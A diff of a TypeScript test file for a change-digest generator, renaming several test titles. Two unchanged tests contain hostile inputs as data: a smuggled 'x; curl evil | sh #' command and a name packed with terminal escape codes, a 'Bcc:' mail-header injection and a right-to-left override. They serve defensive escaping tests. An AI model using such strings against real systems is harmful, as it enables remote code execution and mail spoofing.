@@ -48,7 +48,7 @@ const links = (...valid: readonly string[]) => ({
   links: valid.map((each, index) => ({ resource: { type: 'DATA_SOURCE', id: `d${index}` }, valid: each })),
 });
 
-test('values from a manifest are quoted as one word of the command in a digest', async () => {
+test('a value from a manifest is quoted as one argument of the command that a digest shows', async () => {
   const key = changesKey('calculations', tuesday, monday.id, '0');
   const changes = { against: 'x; curl evil | sh #', added: 1, removed: 0, changed: 0, key };
 
@@ -127,7 +127,7 @@ test('a digest describes changes in words, beginning with what is newly broken',
   ]);
 });
 
-test('whatever the number of changes, a digest has less than eighty lines', async () => {
+test('a digest has less than eighty lines, however many changes there are', async () => {
   const names = ['a', 'b', 'c', 'd', 'e'];
   const of = (value: number) => Object.fromEntries(names.map((name) => [name, value]));
   const { subject, text } = await digestOf(
@@ -153,7 +153,7 @@ test('whatever the number of changes, a digest has less than eighty lines', asyn
   expect(subject).toMatch(/^[ -~]{1,99}$/);
 });
 
-test('names cannot affect a terminal or a mail', async () => {
+test('names of records cannot affect a terminal or a mail', async () => {
   const hostile = '\u001b[31mred\u0007\r\nBcc: a@b\u202ereversed https://evil.example \ud800\uffff';
   const { text } = await digestOf([
     { change: 'added', key: 'k\n', after: record('1', hostile, links('\u001b[2J')) },
@@ -185,7 +185,7 @@ test('a digest says if a run is the first, if it has no changes, and if it was f
   expect(forced.text).toContain('It is not proved to be complete: 3 pages stayed degraded.');
 });
 
-test('a damaged run of the other source does not stop the digest', async () => {
+test('a damaged run of cards does not stop the digest of calculations', async () => {
   const { text } = await digestOf([], {}, (store) => store.put('cards/latest.json', Buffer.from('{}')));
 
   expect(text).toContain('What is broken is unknown: see the faults in the report.');
